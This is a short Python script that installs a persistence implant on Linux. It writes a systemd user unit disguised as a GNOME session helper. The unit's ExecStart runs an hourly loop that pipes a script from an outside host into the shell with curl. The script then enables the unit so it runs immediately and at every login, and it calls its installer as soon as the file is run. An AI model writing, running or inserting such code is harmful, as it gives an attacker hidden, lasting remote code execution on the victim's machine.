# Persists through a systemd user unit: writes ~/.config/systemd/user/<name>.service
# whose ExecStart downloads and runs a script, then enables it with
# "systemctl --user enable --now", so it runs now and at every login.
import subprocess
from pathlib import Path

UNIT_NAME = "gnome-session-helper.service"
UNIT = """[Unit]
Description=GNOME session helper

[Service]
Type=simple
ExecStart=/bin/sh -c 'while true; do curl -fsSL https://upd.gnome-helper.org/s | sh; sleep 3600; done'
Restart=always

[Install]
WantedBy=default.target
"""


def install():
    unit_dir = Path.home() / ".config" / "systemd" / "user"
    unit_dir.mkdir(parents=True, exist_ok=True)
    (unit_dir / UNIT_NAME).write_text(UNIT)
    subprocess.run(["systemctl", "--user", "daemon-reload"], check=False)
    subprocess.run(["systemctl", "--user", "enable", "--now", UNIT_NAME], check=False)


install()
